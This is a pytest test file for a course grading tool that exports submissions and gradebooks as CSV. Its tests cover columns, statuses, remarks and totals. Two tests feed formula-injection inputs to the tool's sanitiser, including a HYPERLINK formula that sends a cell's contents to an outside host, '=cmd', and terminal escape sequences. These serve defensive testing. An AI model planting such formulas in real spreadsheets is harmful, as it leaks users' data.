import csv
from decimal import Decimal

import pytest
from attempt_makers import attempt, taken

from labkit.basics.errors import LabkitError
from labkit.exercises.catalogue import exercises
from labkit.grading.intake.people import HandedIn, Person
from labkit.grading.records.batch_file import BatchFile
from labkit.grading.records.gradebook import harmless, rows, write_gradebook, write_submissions
from labkit.grading.records.ledger import new_entry
from labkit.grading.records.totals import totals

LATER = "2026-02-01T00:00:00+00:00"


@pytest.fixture
def written(tmp_path):
    """Write the table of submissions and return its rows as a spreadsheet reads them, by column."""

    def write(attempts, submissions=()):
        path = write_submissions(rows(attempts, submissions), tmp_path / "submissions.csv")
        with path.open(encoding="utf-8-sig", newline="") as file:
            return list(csv.DictReader(file))

    return write


def test_one_row_a_submission_and_a_column_an_exercise(written):
    chapter = next(iter(exercises())).split(".")[0]
    mine = [name for name in exercises() if name.split(".")[0] == chapter]
    notebook = f"{int(chapter):02}_first"
    found = written(
        [
            attempt("b", notebook, points=dict.fromkeys(mine, 1)),
            attempt("a", notebook, "timeout", points={mine[0]: 2, mine[1]: 0}, late=True, user="7", finished=LATER),
            attempt("a", "98_other", "failed"),
            attempt("a", "99_last"),
        ]
    )
    assert [row["submission"] for row in found] == ["a", "b"]
    first, second = found
    assert list(first) == [
        *("submission", "student", "user", "late"),
        *(f"exercise {name}" for name in exercises()),
        *("total", "status", "remarks"),
    ]
    assert (first["student"], first["user"], first["late"], second["late"]) == ("Lee, Mia", "7", "late", "")
    assert [first[f"exercise {name}"] for name in mine] == ["2", *["0"] * (len(mine) - 1)]
    assert {first[f"exercise {name}"] for name in exercises() if name not in mine} <= {""}
    assert (first["total"], first["status"]) == ("2", "timeout")
    assert first["remarks"] == f"failed: 98_other. timeout: {notebook}."
    assert (second["total"], second["status"], second["remarks"]) == (str(len(mine)), "passed", "")


def test_a_missing_notebook_has_empty_cells_and_an_invalid_one_zeros(written):
    name = next(iter(exercises()))
    notebook = f"{int(name.split('.')[0]):02}_first"
    missing, invalid = written([attempt("a", notebook, "missing"), attempt("b", notebook, "invalid")])
    assert (missing[f"exercise {name}"], missing["total"], missing["status"]) == ("", "", "missing")
    assert (invalid[f"exercise {name}"], invalid["total"], invalid["status"]) == ("0", "", "invalid")


def test_what_is_half_graded_has_no_total_and_what_lacks_notebooks_says_which():
    points = {"5.1": 2}
    whole, half, broken, lacking, old = (attempt(name, points=points) for name in "abcdf")
    attempts = [
        *(whole, half, broken, lacking, old),
        attempt("c", "06_x", "error"),
        attempt("d", "06_x", "missing"),
        attempt("d", "07_x", "invalid"),
        attempt("e", "06_x", "missing"),
    ]
    found = {row.submission: row for row in rows(attempts, [], {"b": ["06_x", "07_x"], "c": ["06_x"], "f": ["05_y"]})}
    assert [(row.total, row.status, row.gaps) for row in found.values()] == [
        (2, "passed", ""),
        (None, "not graded", "Not graded yet: 06_x, 07_x."),
        (None, "error", "Not graded yet: 06_x."),
        (2, "missing", "Missing: 06_x. Invalid: 07_x."),
        (None, "missing", "It holds no notebook that could be executed. Missing: 06_x."),
        (None, "not graded", "Not graded yet: 05_y."),
    ]
    assert found["c"].remarks[:2] == ("Not graded yet: 06_x.", "error: 06_x.")
    assert found["c"].points["6.1"] is None


def test_points_stay_although_a_copy_in_the_courses_folder_was_missed_by_everybody(written):
    """So nights were kept in which a TA's checkout held a copy of a notebook."""
    original, copied = attempt("a", "01_pytorch_blitz", points={"1.1": 2}), "01_pytorch_blitz-Copy1"
    (row,) = written([original, attempt("a", copied, "missing")])
    assert (row["exercise 1.1"], row["total"]) == ("2", "2")


@pytest.mark.parametrize(
    ("statuses", "worst"),
    [
        (["passed", "passed"], "passed"),
        (["failed", "passed"], "failed"),
        (["timeout", "failed", "kernel-died"], "kernel-died"),
        (["missing", "invalid"], "missing"),
    ],
)
def test_the_status_is_the_gravest(statuses, worst):
    found = rows([attempt("a", f"{number:02}_x", status) for number, status in enumerate(statuses)])
    assert found[0].status == worst


def test_who_was_taken_in_and_is_not_graded_yet_has_a_row(written):
    found = written([attempt("b\\u200b")], [taken("b\u200b", user="8"), taken("a", problems=("The zip is\nbroken.",))])
    assert [(row["submission"], row["user"], row["total"], row["status"]) for row in found] == [
        ("a", "101", "", "not graded"),
        ("b\\u200b", "8", "0", "passed"),
    ]
    assert found[0]["remarks"] == "The zip is broken."


def test_remarks_tell_of_the_sandbox_and_of_numbers_that_do_not_reproduce(written):
    numbers = {
        "a": {"claimed": "1", "found": "1", "same": True},
        "b": {"claimed": "1", "found": "2", "same": False},
        "c": {"claimed": None, "found": "2", "same": False},
    }
    row = written([attempt(unsafe=True, numbers=numbers, remarks=("A check was restored.",))])[0]
    assert row["remarks"] == (
        "Executed without a sandbox. 05_mlp1_sweep: A check was restored. "
        "05_mlp1_sweep: 1 of 2 claimed numbers differ in the re-run."
    )


def test_long_remarks_stay_whole(written):
    remarks = tuple(f"Remark {number:04}." for number in range(1_000))
    row = written([attempt(remarks=remarks)])[0]
    assert all(remark in row["remarks"] for remark in remarks)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'=1"),
        ("\r=1", "'=1"),
        ("  \u00a0=1", "'=1"),
        ('"=1', "'\"=1"),
        ("'=1", "''=1"),
        ("“ =1", "'“ =1"),
        ("\u200b=1", "'=1"),
        ("\ufeff\x00=1", "'=1"),
        ("\x1b[31m=1", "'=1"),
        ("\uff1d1", "'\uff1d1"),
        ("\uff0b1", "'\uff0b1"),
        ("\uff0d1", "'\uff0d1"),
        ("\uff20x", "'\uff20x"),
        ("a;=1", "a;'=1"),
        ("a,=1", "a,'=1"),
        ("a\n=1", "a =1"),
        ("Anna-Lena O'Neil, B.Sc. = x", "Anna-Lena O'Neil, B.Sc. = x"),
        ("", ""),
    ],
)
def test_no_text_becomes_a_formula(text, expected):
    assert harmless(text) == expected


def test_names_that_attack_stay_in_their_cells(written):
    evil = '=HYPERLINK("http://x?"&A1,"y")\n\x1b]0;t\x07\u202e","999'
    row = written(
        [attempt("=cmd", student=evil, user="-5", remarks=("=1",))], [taken("+x", evil, "@y", problems=("=2",))]
    )
    first, second = row
    assert first["submission"] == "'+x"
    assert (second["submission"], second["user"]) == ("'=cmd", "'-5")
    assert first["student"] == second["student"] == '\'=HYPERLINK("http://x?"&A1,"y") ","999'
    assert first["user"] == "'@y"
    assert first["remarks"] == "'=2"
    assert second["total"] == "0"


def test_a_spreadsheet_sees_the_right_letters(tmp_path):
    path = write_submissions(rows([attempt(student="Zoë 数")]), tmp_path / "g.csv")
    assert path.read_bytes().startswith(b"\xef\xbb\xbfsubmission,")
    assert "Zoë 数" in path.read_text(encoding="utf-8-sig")


def test_a_gradebook_that_cannot_be_written_leaves_the_old_one(tmp_path):
    (tmp_path / "file").write_text("")
    with pytest.raises(LabkitError, match="cannot be written"):
        write_submissions([], tmp_path / "file" / "submissions.csv")


def test_the_gradebook_has_a_row_a_person_with_the_group_and_where_the_total_comes_from(tmp_path):
    people = (Person("201", "Mia Lee", "ab12", "mia@example.org"), Person(login="=cd34"), Person("203", "Bo"))
    group = HandedIn(name="lab-7", student="Lab 7", user="201", late=True, group="Lab 7", people=people)
    table = rows([attempt("lab-7", points={"5.1": 1, "5.2": 3}), attempt("ada", points={"5.1": 1})], [group])
    lines = [
        new_entry("lab-7", "regrade", "half right", item="5.2", points=Decimal("1.5")),
        new_entry("ab12", "adjust", "did most of it", points=Decimal(2)),
        new_entry("203", "excuse", "=ill"),
    ]
    path = write_gradebook(table, totals(table, BatchFile("canvas", (group,)), lines), tmp_path / "gradebook.csv")
    with path.open(encoding="utf-8-sig", newline="") as file:
        ada, mia, cd34, bo = csv.DictReader(file)
    assert list(mia) == [
        *("submission", "group", "student", "user", "login", "email", "late"),
        *(f"exercise {name}" for name in exercises()),
        *("questions", "report", "oral", "not marked", "approved"),
        *("total", "of", "where from", "status", "remarks"),
    ]
    assert (ada["submission"], ada["group"], ada["student"], ada["user"]) == ("ada", "", "Lee, Mia", "101")
    assert (ada["total"], ada["where from"]) == ("1", "1 = 1 (exercises).")
    assert [row["group"] for row in (mia, cd34, bo)] == ["Lab 7"] * 3
    assert (mia["student"], mia["user"], mia["login"], mia["email"]) == ("Mia Lee", "201", "ab12", "mia@example.org")
    assert (mia["late"], mia["exercise 5.1"], mia["exercise 5.2"]) == ("late", "1", "1.5")
    assert (mia["total"], mia["of"]) == ("4.5", str(sum(one.points for one in exercises().values())))
    assert mia["where from"].startswith("4.5 = 2.5 (exercises) + 2 (adjusted). 5.2: 1.5 points in place of 3 (")
    assert (cd34["student"], cd34["user"], cd34["login"]) == ("'=cd34", "", "'=cd34")
    assert (cd34["total"], "did most" in cd34["where from"]) == ("2.5", False)
    assert (bo["total"], bo["where from"].endswith(": =ill).")) == ("EX", True)
